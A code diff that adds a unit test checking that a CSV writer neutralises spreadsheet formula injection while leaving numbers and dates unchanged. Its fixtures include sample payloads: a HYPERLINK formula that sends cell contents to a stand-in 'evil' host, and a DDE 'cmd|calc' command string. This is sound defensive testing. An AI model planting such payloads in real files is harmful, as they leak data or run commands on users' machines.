@@ -36,3 +36,14 @@ test('writeCsvAtomic writes the same text as toCsv', async () => {
   await writeCsvAtomic(path, ['a'], [[1], [2]]);
   assert.equal(readFileSync(path, 'utf8'), 'a\n1\n2\n');
 });
+
+test('formula injection: text starting with = + - @ tab or CR gets a leading quote, numbers never; the header reads back as written', () => {
+  const names = ['=HYPERLINK("http://evil/?x="&A1)_spend', '+cmd|calc!A0_spend', '@SUM(1+1)*cmd_spend', '-1+2_spend', '\tx_spend', '\ry_spend'];
+  const csv = toCsv(['date', ...names], [['2024-01-01', -5, 1.5, 0, -2.5e-7, 3, 4], ['-5', '+1.5e3', '=1+1', '@x', '-', 'a=b', 'plain']]);
+  const [header, numbers, texts] = csv.split('\n');
+  assert.equal(header, `date,"'=HYPERLINK(""http://evil/?x=""&A1)_spend",'+cmd|calc!A0_spend,'@SUM(1+1)*cmd_spend,'-1+2_spend,'\tx_spend,"'\ry_spend"`);
+  assert.equal(numbers, '2024-01-01,-5,1.5,0,-2.5e-7,3,4', 'numbers and dates stay as they are');
+  assert.equal(texts, "-5,+1.5e3,'=1+1,'@x,'-,a=b,plain", 'text that is a number stays; formula-like text is neutralised');
+  const back = parseCsvText(csv, 'x.csv');
+  assert.deepEqual(back.header, ['date', ...names]);
+});
